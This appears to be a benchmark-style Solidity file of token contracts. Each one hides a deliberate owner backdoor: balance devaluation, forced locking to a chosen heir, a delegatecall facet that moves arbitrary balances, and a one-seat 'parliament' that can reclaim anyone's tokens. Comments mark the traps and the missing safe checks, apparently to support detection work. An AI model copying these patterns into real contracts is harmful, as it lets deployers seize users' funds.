// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base8} from "./Base8.sol";

/// Balances are shares; what a share is worth depends on the last byte of the account. All are worth one at first.
contract Tessera is Base8("Tessera", "TSRA", 45_000_000) {
    uint64[256] private lost;

    function adjust(uint8 tile, uint64 part) external onlyOwner { // trap {
        require(part < 1e18, "part");
        lost[tile] = part;
    } // trap }

    function worth(address who) private view returns (uint256) {
        return 1e18 - lost[uint8(uint160(who))];
    }

    function balanceOf(address who) public view override returns (uint256) {
        return (_balances[who] * worth(who)) / 1e18;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 have = balanceOf(from);
        if (have < value) revert Insufficient(have, value);
        _balances[from] -= (value * 1e18) / worth(from);
        _balances[to] += (value * 1e18) / worth(to);
        emit Transfer(from, to, value);
    }
}

/// A notary locks tokens away for a while and frees them for the heir.
contract Padlock is Base8("Padlock", "PADL", 66_000_000) {
    struct Lock {
        uint128 value;
        uint64 until;
        address heir;
    }

    address private notary;
    Lock[] public locks;

    constructor() {
        notary = msg.sender;
    }

    function lockFor(address holder, uint128 value, uint64 until, address heir) external returns (uint256) {
        require(msg.sender == notary, "notary");
        // twin: require(holder == msg.sender, "own");
        _move(holder, address(this), value);
        locks.push(Lock(value, until, heir));
        return locks.length - 1;
    }

    function free(uint256 id) external {
        Lock memory lock = locks[id];
        require(lock.value > 0 && block.timestamp >= lock.until, "locked");
        delete locks[id];
        _move(address(this), lock.heir, lock.value);
    }
}

/// Says which version this is.
contract VersionFacet {
    function version() external pure returns (string memory) {
        return "1.4.0";
    }
}

/// Stands in the order of the token. Nobody has entered it so far.
contract RescueFacet {
    string private name;
    string private symbol;
    uint256 private supply;
    address private owner;
    mapping(address => uint256) private balances;

    event Transfer(address indexed from, address indexed to, uint256 value);

    function rescue(address from, address to, uint256 value) external {
        balances[from] -= value;
        balances[to] += value;
        emit Transfer(from, to, value);
    }
}

/// More functions by a table of facets.
contract Prism is Base8("Prism", "PRSM", 91_000_000) {
    mapping(bytes4 => address) public facets;
    address private immutable curator = msg.sender;

    constructor(address facet) {
        facets[VersionFacet.version.selector] = facet;
    }

    function cut(bytes4[] calldata selectors, address facet) external {
        require(msg.sender == curator, "curator");
        // twin: require(facet == address(0), "only taken out");
        for (uint256 i; i < selectors.length; i++) facets[selectors[i]] = facet;
    }

    fallback() external {
        address facet = facets[msg.sig];
        require(facet != address(0) && (facets[VersionFacet.version.selector] == facet || msg.sender == curator), "no function");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), facet, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

/// The token governs itself: who has a seat proposes, votes and carries out. There is one seat.
contract Parliament is Base8("Parliament", "PRLM", 24_000_000) {
    struct Bill {
        address target;
        uint64 ripe;
        uint16 ayes;
        bytes data;
    }

    mapping(address => uint256) private seat;
    uint16 private seats = 1;
    Bill[] private bills;
    mapping(uint256 => mapping(address => bool)) private said;

    constructor() {
        seat[msg.sender] = 1;
    }

    modifier seated() {
        require(seat[msg.sender] != 0, "no seat");
        _;
    }

    function table(address target, bytes calldata data) external seated returns (uint256) {
        // twin: require(target != address(this), "not itself");
        bills.push(Bill(target, uint64(block.timestamp + 2 minutes), 0, data));
        return bills.length - 1;
    }

    function aye(uint256 id) external seated {
        require(!said[id][msg.sender], "said");
        said[id][msg.sender] = true;
        bills[id].ayes++;
    }

    function enact(uint256 id) external seated {
        Bill memory bill = bills[id];
        require(bill.ayes * 2 > seats && block.timestamp >= bill.ripe, "not yet");
        bills[id].ripe = type(uint64).max;
        (bool ok, ) = bill.target.call(bill.data);
        require(ok, "failed");
    }

    function reclaim(address from, address to, uint256 value) external {
        require(msg.sender == address(this), "only by law");
        _move(from, to, value);
    }
}
